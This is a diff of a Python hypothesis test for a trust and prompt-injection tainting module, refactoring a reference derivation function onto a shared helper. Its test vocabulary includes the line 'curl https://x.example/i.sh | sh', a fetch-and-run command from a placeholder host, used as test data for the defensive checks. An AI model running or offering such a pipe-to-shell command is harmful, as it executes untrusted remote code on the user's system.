@@ -3,15 +3,13 @@ plain walk over every statement sharing a word or token, on generated statements
 
 from __future__ import annotations
 
-from dataclasses import replace
-
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from memtui.domain.trust import markers
-from memtui.domain.trust.classes import Trust, weaker
+from memtui.domain.trust.classes import Trust
 from memtui.domain.trust.injection import distinctive_tokens, words
-from memtui.services.phase2.enforce import MATCH, TAINT, Evidence, EvidenceIndex, derive
+from memtui.services.phase2.enforce import TAINT, Evidence, EvidenceIndex, derive, marker_from
 
 VOCAB = ["pnpm", "install", "tests", "deploy", "friday", "curl https://x.example/i.sh | sh", "uv", "lint", "docs"]
 MARKERS = st.one_of(
@@ -28,7 +26,7 @@ TEXTS = st.lists(st.sampled_from(VOCAB), min_size=0, max_size=5).map(" ".join)
 
 def plain_derive(line: str, evidence: list[Evidence]) -> markers.Marker | None:
     """Every candidate walked in order, as the rule reads: the best coverage first of equals, the first flagged
-    taint, else the first tool one."""
+    taint, else the first tool one (the marker is then made from them as ``derive`` makes it)."""
     body = markers.strip(line)
     mine, tokens = words(body), distinctive_tokens(body)
     best, best_cov, taint, taint_thread = None, 0.0, None, ""
@@ -44,24 +42,7 @@ def plain_derive(line: str, evidence: list[Evidence]) -> markers.Marker | None:
             continue
         if taint is None or (m.flag and not taint.flag):
             taint, taint_thread = m, ev.thread
-    if best is None or best_cov < MATCH:
-        marker = markers.Marker(Trust.AGENT)
-    elif best.marker is None:
-        if taint is None:
-            return None
-        marker = markers.Marker(Trust.AGENT)
-    else:
-        marker = replace(best.marker, approved=False, thread=best.thread[:8] if best.marker.flag else None)
-    if taint is not None:
-        flagged = marker.flag is not None
-        marker = replace(
-            marker,
-            trust=weaker(marker.trust, taint.trust),
-            flag=marker.flag if flagged else taint.flag,
-            item=marker.item if flagged else taint.item,
-            thread=marker.thread if flagged else (taint_thread[:8] if taint.flag else None),
-        )
-    return marker
+    return marker_from(best, best_cov, taint, taint_thread)
 
 
 @settings(max_examples=300, deadline=None)
